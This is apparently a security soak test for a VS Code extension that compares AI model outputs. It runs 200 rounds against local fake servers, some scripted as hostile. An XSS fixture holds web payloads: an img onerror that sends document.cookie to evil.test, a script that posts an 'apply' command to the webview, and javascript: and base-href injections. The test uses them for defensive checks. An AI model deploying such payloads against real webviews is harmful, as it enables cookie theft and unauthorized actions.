/**
 * The 200-run soak, inside the real extension host: 200 consecutive runs of 8 models, hostile ones among them, go
 * through Parallax's own RunCoordinator, the real openai and Anthropic SDKs, the e2e session's local servers speaking
 * their wire protocols (in the test runner's process, so their work is not counted against this host) and a real
 * preference log. Afterwards the host's open sockets, timers and listeners are back at their
 * baseline, the event loop never stalled for more than 100 ms (`monitorEventLoopDelay`), every run and vote is in the
 * log, and the heap growth is reported.
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { monitorEventLoopDelay } from 'node:perf_hooks';
import type { CompareModel } from '../../../src/core/compare/compareEngine';
import { PreferenceLog } from '../../../src/core/prefs/preferenceLog';
import { createProvider } from '../../../src/core/providers/providerFactory';
import type { FakeScript } from '../../../src/demo/fakeProviders';
import { RunRecorder } from '../../../src/host/prefs/runRecorder';
import { assignColumns } from '../../../src/host/results/blindColumns';
import { type KeyValueStore, RunCoordinator } from '../../../src/host/run/runCoordinator';
import type { SessionPlan } from '../../../src/host/run/runSession';
import type { HostToResults, RunView } from '../../../src/shared/protocol';
import * as vscode from 'vscode';
import { reportNote } from '../companion/src/integrationMocha';

const RUNS = 200;
/** The e2e session's fake key (test/e2e/harness/e2eModels.ts), given to the extension host's environment. */
const KEY_ENV = 'PARALLAX_FAKE_KEY';
const ORIGINAL = 'function add(a, b) {\n  return a - b;\n}\n';
const FIX = 'The operator is wrong.\n\n```js\nfunction add(a, b) {\n  return a + b;\n}\n```\n';
const XSS = [
  '<img src=x onerror="fetch(`https://evil.test/`+document.cookie)">',
  '<script>acquireVsCodeApi().postMessage({type:"apply"})</script>',
  '[click](javascript:alert(1)) ![px](https://evil.test/p.png) <form action="https://evil.test"><input></form>',
  '<video src="https://evil.test/v.mp4"></video><base href="https://evil.test/">',
  '```js\nfunction add(a, b) {\n  return a + b;\n}\n```',
].join('\n\n');

/** Eight models: two honest ones, then XSS, a scrubber ReDoS bait, a 400, a reset, no terminal event and a stall. */
const SCRIPTS: Record<string, FakeScript> = {
  'soak-ok': { tokensPerSecond: 0, text: FIX },
  'soak-claude': { tokensPerSecond: 0, text: FIX },
  'soak-xss': { tokensPerSecond: 0, text: XSS },
  // 192 kB of `keykey…`: took 4.6 s in the old scrubber, which runs at every run end.
  'soak-redos': { tokensPerSecond: 0, text: `api_${'key'.repeat(64_000)}= sk-${'x'.repeat(40)}` },
  // A 400 with a FastAPI-style body (a 5xx would be retried with back-off by the SDK and only slow the soak down).
  'soak-400': { fault: { type: 'status', status: 400, body: `{"detail":"Server is pinned to another model; ${'x'.repeat(20_000)}"}` } },
  'soak-reset': { tokensPerSecond: 0, text: FIX, fault: { type: 'reset', afterChunks: 3 } },
  'soak-noterm': { tokensPerSecond: 0, text: FIX, fault: { type: 'no-terminal' } },
  'soak-stall': { tokensPerSecond: 0, text: FIX, fault: { type: 'stall', afterChunks: 2 } },
};
/** Every 40th run the ReDoS model instead sends 5,000,000 characters, past the engine's size cap (5 times). */
const HUGE: FakeScript = { fault: { type: 'huge', chars: 5_000_000 } };

class MemoryStore implements KeyValueStore {
  private readonly values = new Map<string, unknown>();
  get<T>(key: string): T | undefined {
    return this.values.get(key) as T | undefined;
  }
  update(key: string, value: unknown): Promise<void> {
    this.values.set(key, value);
    return Promise.resolve();
  }
}

/** Counts of the host's open resources by type (TCPSocketWrap, Timeout, …) and of process listeners. */
function resources(): Map<string, number> {
  const counts = new Map<string, number>();
  for (const type of process.getActiveResourcesInfo()) counts.set(type, (counts.get(type) ?? 0) + 1);
  counts.set('process listeners', process.eventNames().reduce((n, e) => n + process.listenerCount(e), 0));
  return counts;
}

function grewBeyond(now: Map<string, number>, base: Map<string, number>, slack: (type: string) => number): string[] {
  return [...now].filter(([type, n]) => n > (base.get(type) ?? 0) + slack(type)).map(([type, n]) => `${type}: ${base.get(type) ?? 0} → ${n}`);
}

/**
 * The longest time the event loop was blocked by this process's own work: a timer gap counts only as far as the
 * main thread used the CPU during it, so time the OS gave to other processes on a loaded machine is not blamed on the
 * extension host. (`monitorEventLoopDelay` reports the raw delay beside it.)
 */
class BlockingMonitor {
  private timer: NodeJS.Timeout | undefined;
  private lastWall = 0;
  private lastCpu = 0;
  longestMs = 0;

  start(): void {
    this.lastWall = performance.now();
    this.lastCpu = cpuMs();
    this.timer = setInterval(() => {
      const wall = performance.now();
      const cpu = cpuMs();
      const gap = wall - this.lastWall - 5;
      this.longestMs = Math.max(this.longestMs, Math.min(gap, cpu - this.lastCpu));
      this.lastWall = wall;
      this.lastCpu = cpu;
    }, 5);
  }

  stop(): void {
    clearInterval(this.timer);
  }
}

const MAIN_THREAD_SCHEDSTAT = `/proc/${process.pid}/task/${process.pid}/schedstat`;

/**
 * CPU time of the main thread (the event loop) in ms: Linux's schedstat gives it in ns. `process.cpuUsage()` counts
 * every thread (GC helpers, the libuv pool), which on a loaded machine over-counts a gap; it is the fallback.
 */
function cpuMs(): number {
  try {
    const first = readFileSync(MAIN_THREAD_SCHEDSTAT, 'utf8').split(' ')[0];
    const ns = Number(first);
    if (Number.isFinite(ns)) return ns / 1e6;
  } catch {
    // Not Linux, or no schedstat: fall through.
  }
  const { user, system } = process.cpuUsage();
  return (user + system) / 1000;
}

async function until(check: () => boolean, timeoutMs: number): Promise<boolean> {
  const deadline = Date.now() + timeoutMs;
  while (!check()) {
    if (Date.now() > deadline) return false;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  return true;
}

interface FakeEndpoints {
  openaiBaseUrl: string;
  anthropicBaseUrl: string;
  key: string;
}

/** The e2e fakes, found through the configured models (their first openai-compatible entry). */
function fakeEndpoints(): FakeEndpoints {
  const models = vscode.workspace.getConfiguration('parallax').get<Array<{ provider?: string; baseUrl?: string }>>('models') ?? [];
  const openaiBaseUrl = models.find((m) => m.provider === 'openai-compatible' && m.baseUrl?.startsWith('http://127.0.0.1'))?.baseUrl;
  const key = process.env[KEY_ENV];
  if (!openaiBaseUrl || !key) throw new Error('the e2e fake servers are not configured in this extension host');
  return { openaiBaseUrl, anthropicBaseUrl: openaiBaseUrl.replace(/\/v1\/?$/, ''), key };
}

async function setScript(fakes: FakeEndpoints, model: string, script: FakeScript): Promise<void> {
  const res = await fetch(`${fakes.anthropicBaseUrl}/__script`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ model, script }) });
  if (!res.ok) throw new Error(`re-scripting ${model} failed: ${res.status} ${await res.text()}`);
}

function plan(fakes: FakeEndpoints, index: number): SessionPlan {
  const models: CompareModel[] = Object.keys(SCRIPTS).map((model) => {
    const anthropic = model === 'soak-claude';
    return {
      spec: { id: model, label: model, provider: anthropic ? 'anthropic' : 'openai-compatible', model },
      provider: createProvider({ kind: anthropic ? 'anthropic' : 'openai-compatible', apiKey: fakes.key, baseUrl: anthropic ? fakes.anthropicBaseUrl : fakes.openaiBaseUrl }),
      request: { model, system: 'Fix the bug.', messages: [{ role: 'user', content: ORIGINAL }], maxTokens: 512 },
    };
  });
  const runId = `soak-${index}`;
  return {
    meta: { runId, template: 'fix', title: `Fix ${runId}`, createdAt: new Date().toISOString(), requestHash: 'a'.repeat(64), contextLabel: 'add.js:1-3' },
    template: 'fix',
    models,
    limits: { firstTokenMs: 5_000, idleMs: 250, totalMs: 10_000 },
    blind: index % 2 === 0,
    assignments: assignColumns(models.map((m) => m.spec.id), index % 2 === 0, Math.random),
    prompt: { system: 'Fix the bug.', user: ORIGINAL, truncations: [] },
    context: { filePath: 'add.js', selection: { startLine: 0, startCharacter: 0, endLine: 2, endCharacter: 1 }, languageId: 'javascript' },
    originalText: ORIGINAL,
  };
}

describe('security: 200-run soak (8 models, hostile ones among them, one extension host)', function () {
  this.timeout(300_000);
  let dir: string;

  before(async () => {
    dir = await mkdtemp(join(tmpdir(), 'parallax-soak-'));
  });

  after(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  it('200-run soak: no stall over 100 ms, sockets, timers and listeners back at baseline, every run and vote logged', async function () {
    const baseline = resources();
    const heapBefore = process.memoryUsage().heapUsed;
    const fakes = fakeEndpoints();
    for (const [model, script] of Object.entries(SCRIPTS)) await setScript(fakes, model, script);
    const log = new PreferenceLog(join(dir, 'soak.jsonl'));
    let shown: RunView | undefined;
    let messages = 0;
    const coordinator = new RunCoordinator({
      panel: {
        post: (m: HostToResults) => {
          messages += 1;
          if (m.type === 'run') shown = m.run;
        },
        show: () => undefined,
        setTitle: () => undefined,
      },
      store: new MemoryStore(),
      recorder: new RunRecorder({ append: (e) => log.append(e).then(() => true) }),
      readLog: () => log.readAll(),
      reasonTags: () => ['correct'],
    });

    // A warm-up run loads the SDKs (a one-time cost at the first run after activation) before the clock watches.
    const delay = monitorEventLoopDelay({ resolution: 10 });
    const blocking = new BlockingMonitor();
    try {
      for (let i = -1; i < RUNS; i++) {
        if (i === 0) {
          delay.enable();
          blocking.start();
        }
        if (i % 40 === 39) await setScript(fakes, 'soak-redos', HUGE);
        if (i % 40 === 0) await setScript(fakes, 'soak-redos', SCRIPTS['soak-redos'] as FakeScript);
        const session = coordinator.launch(plan(fakes, i));
        await session.whenSettled();
        assert.equal(shown?.runId, session.runId, `run ${i} is on screen`);
        const winner = shown.columns[(i + 1) % shown.columns.length]?.columnId;
        assert.ok(winner, `run ${i} has columns`);
        assert.ok(await coordinator.vote({ kind: 'winner', winnerColumnId: winner, tags: [] }), `run ${i}: the vote was recorded`);
      }
    } finally {
      delay.disable();
      blocking.stop();
      await coordinator.dispose();
      await log.flush();
    }
    const maxDelayMs = delay.max / 1e6;
    const p99DelayMs = delay.percentile(99) / 1e6;

    const { runs, problems } = await log.readAll();
    assert.deepEqual(problems, [], 'every log line is valid');
    assert.equal(runs.length, RUNS + 1, 'every run (and the warm-up) is in the log');
    assert.equal(runs.filter((r) => r.vote !== undefined).length, RUNS + 1, 'every vote is in the log');
    const last = runs.find((r) => r.id === `soak-${RUNS - 1}`);
    assert.ok(last, 'the last run is in the log');
    const stateOf = (model: string): string | undefined => last.outputs.find((o) => o.modelId === model)?.state;
    assert.equal(stateOf('soak-ok'), 'done');
    assert.equal(stateOf('soak-claude'), 'done', 'one failing model never spoils the others');
    assert.equal(stateOf('soak-400'), 'error');
    assert.equal(stateOf('soak-redos'), 'incomplete', 'the 5,000,000-character answer ends at the size cap');
    assert.ok(stateOf('soak-stall') === 'timed-out', `the stalled model times out (was ${stateOf('soak-stall')})`);
    assert.doesNotMatch(JSON.stringify(runs.slice(0, 3)), /sk-x{40}/, 'the key in the ReDoS bait is scrubbed from the log');

    // The SDKs' keep-alive pools close idle connections after a few seconds; a leak per run would be hundreds.
    const noise = (type: string): number => (type === 'Timeout' ? 4 : 0); // VS Code's own timers come and go
    const back = await until(() => grewBeyond(resources(), baseline, noise).length === 0, 20_000);
    assert.ok(back, `resources not back at baseline after the soak: ${grewBeyond(resources(), baseline, noise).join(', ')}`);

    const heapGrowthMb = (process.memoryUsage().heapUsed - heapBefore) / 1_048_576;
    reportNote(
      this,
      `${RUNS} runs × 8 models, ${messages} panel messages; event loop blocked by the host's own work at most ${blocking.longestMs.toFixed(1)} ms; ` +
        `monitorEventLoopDelay max ${maxDelayMs.toFixed(1)} ms, p99 ${p99DelayMs.toFixed(1)} ms (includes time the OS gave other processes); heap growth ${heapGrowthMb.toFixed(1)} MB`,
    );
    assert.ok(blocking.longestMs <= 100, `the extension host's event loop was blocked for ${blocking.longestMs.toFixed(1)} ms (limit 100 ms)`);
  });
});
